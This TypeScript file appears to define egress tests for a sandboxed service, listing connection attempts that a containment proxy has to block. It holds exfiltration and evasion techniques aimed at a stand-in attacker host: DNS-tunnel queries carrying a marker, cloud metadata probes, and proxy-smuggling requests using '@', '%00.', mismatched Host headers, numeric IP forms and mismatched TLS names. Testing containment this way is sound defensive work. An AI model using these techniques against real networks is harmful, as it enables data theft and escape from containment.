import { services } from "../addresses.ts";
import { places } from "./wire.ts";

/** One way out, as client.py tries it; what else is in it are that way's arguments. */
export interface Attack {
  readonly label: string;
  readonly how: "tcp" | "udp" | "lookup" | "query" | "proxy" | "tls" | "plainly";
  readonly [argument: string]: unknown;
  /** Whether what became of it means that something got through. */
  readonly leaked: (outcome: string) => boolean;
  /** It gets out from where nothing holds it: what never works proves nothing. */
  readonly works: boolean;
}

/** A question for a name in it that arrives at the internet's resolver carried its label there. */
export const zone = "attacker.example.net";

/** Refused connections and names that do not exist are answers of the other side. */
const answered = (outcome: string): boolean => /^(open|refused|rcode [035])/.test(outcome);
const opened = (outcome: string): boolean => outcome.startsWith("open");

const tcp = (what: string, host: string, port: number, works = true, leaked = answered): Attack => ({
  label: `${what}, ${host} port ${port}`,
  how: "tcp",
  host,
  port,
  leaked,
  works,
});

/** Straight out, past the proxy. */
export const direct: readonly Attack[] = [
  ...[443, 80, 22, 25, 53, 853, 8443].map((port) => tcp("an address", places.attacker, port)),
  tcp("a name", zone, 443),
  tcp("an allowed host past the proxy", services.telegram, 443),
  tcp("a model host past the proxy", services.models, 443),
  tcp("an allowed host's other port", services.telegram, 80),
  tcp("a resolver over tcp", services.resolver[0], 53),
  tcp("a resolver over https", services.resolver[0], 443),
  tcp("IPv6", places.attacker6, 443),
  tcp("cloud metadata", places.metadata, 80),
  tcp("cloud metadata over IPv6", "fd00:ec2::254", 80, false),
  // Nobody answers these: the wire tells.
  ...[places.attacker, places.attacker6].flatMap((host) =>
    [53, 123, 443].map(
      (port): Attack => ({
        label: `udp, ${host} port ${port}`,
        how: "udp",
        host,
        port,
        leaked: opened,
        works: false,
      }),
    ),
  ),
];

/** Questions whose names carry something out; `mark` is in each. */
export const tunnels = (mark: string, resolvers: readonly string[]): readonly Attack[] => [
  {
    label: "DNS, as programs ask",
    how: "lookup",
    name: `system-${mark}.${zone}`,
    leaked: opened,
    // The name does not exist: that the question arrived is in the resolver's log.
    works: false,
  },
  ...resolvers.flatMap((server) =>
    (
      [
        ["A", 1],
        ["TXT", 16],
        ["AAAA", 28],
        ["NULL", 10],
      ] as const
    ).map(
      ([type, kind]): Attack => ({
        label: `DNS ${type}, ${server}`,
        how: "query",
        name: `${type.toLowerCase()}-${server.replaceAll(".", "-")}-${mark}.${zone}`,
        kind,
        server,
        leaked: answered,
        works: true,
      }),
    ),
  ),
];

/** Doors that must not open: what listens on the server and in containers that this one has nothing to do with. */
export const doors = (what: string, host: string, ports: readonly number[]): readonly Attack[] =>
  ports.map((port) => tcp(what, host, port, false, opened));

const asked = (label: string, through: string, head: string): Attack => ({
  label,
  how: "proxy",
  through,
  head,
  leaked: (outcome) => outcome === "status 200",
  works: false,
});

/** Everything a proxy has to refuse, whose list has `allowed` in it and not `others`. */
export const throughProxy = (
  through: string,
  allowed: string,
  others: readonly string[],
  mark: string,
): readonly Attack[] => {
  const connect = (target: string, host = target): Attack =>
    asked(
      `CONNECT ${target}${host === target ? "" : ` (Host: ${host})`}`,
      through,
      `CONNECT ${target} HTTP/1.1\r\nHost: ${host}`,
    );
  const apex = allowed.split(".").slice(1).join(".");
  return [
    ...others.map((host) => connect(`${host}:443`)),
    ...[22, 25, 53, 80, 8443, 4430].map((port) => connect(`${allowed}:${port}`)),
    ...[apex, `core.${apex}`, `x.${allowed}`, `x${allowed}`, `${allowed}.${zone}`, `${zone}.`].map((host) =>
      connect(`${host}:443`),
    ),
    connect(`proxy-${mark}.${zone}:443`),
    ...[
      places.attacker,
      `[${places.attacker6}]`,
      `[::ffff:${places.attacker}]`,
      places.metadata,
      services.telegram,
      "0xc633645a",
      "3325256794",
    ].map((host) => connect(`${host}:443`)),
    ...["127.0.0.1", "localhost", "172.17.0.1", "openclaw-litellm"].map((host) => connect(`${host}:443`)),
    // Whatever a proxy makes of these, it must not be the first host.
    ...["@", ":443@", ":443/", "%00."].map((between) => connect(`${zone}${between}${allowed}:443`)),
    connect(`${zone}:443`, `${allowed}:443`),
    ...[zone, allowed].flatMap((host) =>
      ["http", "https"].map((scheme) =>
        asked(
          `${scheme} without a tunnel, ${host}`,
          through,
          `GET ${scheme}://${host}/${mark} HTTP/1.1\r\nHost: ${host}`,
        ),
      ),
    ),
    asked(
      "an upgrade",
      through,
      `GET http://${zone}/${mark} HTTP/1.1\r\nHost: ${zone}\r\nConnection: Upgrade\r\nUpgrade: websocket`,
    ),
  ];
};

const within = (through: string, allowed: string, name: string): Attack => ({
  label: `TLS for ${name || "nobody"} in a tunnel to ${allowed}`,
  how: "tls",
  through,
  target: `${allowed}:443`,
  name,
  leaked: opened,
  works: false,
});

/** Behind the address of an allowed host others may be, as behind every large service's: what is in its tunnel counts. */
export const misnamed = (through: string, allowed: string): readonly Attack[] => [
  ...[zone, `x.${allowed}`, allowed.split(".").slice(1).join("."), ""].map((name) =>
    within(through, allowed, name),
  ),
  {
    label: `http in a tunnel to ${allowed}`,
    how: "plainly",
    through,
    target: `${allowed}:443`,
    leaked: opened,
    works: false,
  },
];

/** TLS for the very host: what has to come through. */
export const wellNamed = (through: string, allowed: string): Attack => within(through, allowed, allowed);

/** What a proxy has to let through. */
export const tunnel = (through: string, host: string): Attack =>
  asked(`CONNECT ${host}:443`, through, `CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}:443`);
